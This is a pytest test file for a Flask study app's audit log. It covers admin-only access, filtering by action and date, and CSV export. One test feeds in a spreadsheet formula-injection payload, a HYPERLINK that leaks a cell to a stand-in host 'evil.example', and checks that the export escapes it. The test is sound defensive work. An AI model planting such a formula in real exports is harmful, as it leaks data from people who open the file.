"""Admins read, filter and export the audit log; others cannot."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from flask.testing import FlaskClient
from sqlmodel import Session, select

from studyapp.core.models import AuditEvent
from tests.factories import login, make_study, make_user


def _events(session: Session) -> None:
    for action, at in (
        ("study.created", datetime(2027, 1, 5, 12, tzinfo=UTC)),
        ("identity.viewed", datetime(2027, 2, 1, 12, tzinfo=UTC)),
        ("data.exported", datetime(2027, 3, 1, 12, tzinfo=UTC)),
    ):
        session.add(AuditEvent(action=action, at=at, actor="someone@example.org", detail={"count": 1}))
    session.commit()


def test_only_admins_read_the_log(client: FlaskClient, session: Session) -> None:
    make_user(session)
    login(client)
    assert client.get("/audit").status_code == 403
    assert client.get("/audit.csv").status_code == 403
    assert "Audit log" not in client.get("/").get_data(as_text=True)


def test_filter_and_export(client: FlaskClient, session: Session) -> None:
    make_user(session, email="admin@example.org", role="admin")
    login(client, email="admin@example.org")
    make_study(session)
    _events(session)
    page = client.get("/audit").get_data(as_text=True)
    assert "identity.viewed" in page and "data.exported" in page and "study.created" in page
    page = client.get("/audit?action=identity.viewed").get_data(as_text=True)
    assert "1 matching event." in page
    page = client.get("/audit?since=2027-02-01&until=2027-02-28").get_data(as_text=True)
    assert "1 matching event." in page and "identity.viewed" in page
    rows = list(csv.DictReader(io.StringIO(client.get("/audit.csv?action=data.").get_data(as_text=True))))
    assert [r["action"] for r in rows] == ["data.exported"]
    assert (
        session.exec(select(AuditEvent).where(AuditEvent.action == "audit.exported")).one().actor == "admin@example.org"
    )


def test_audit_csv_cells_never_run_as_formulas(client: FlaskClient, session: Session) -> None:
    """An actor or target typed by someone else (a login e-mail, an upload's name) is text in Excel."""
    make_user(session, email="admin@example.org", role="admin")
    login(client, email="admin@example.org")
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
    session.add(AuditEvent(action="user.locked", actor=formula, target_type="+user", target_id="-1+1", ip_address="@x"))
    session.commit()
    body = client.get("/audit.csv?action=user.locked").get_data(as_text=True)
    (row,) = list(csv.DictReader(io.StringIO(body, newline="")))
    assert row["actor"] == "'" + formula
    assert (row["target_type"], row["target_id"], row["ip_address"]) == ("'+user", "'-1+1", "'@x")
    assert row["action"] == "user.locked" and row["detail"] == "{}"
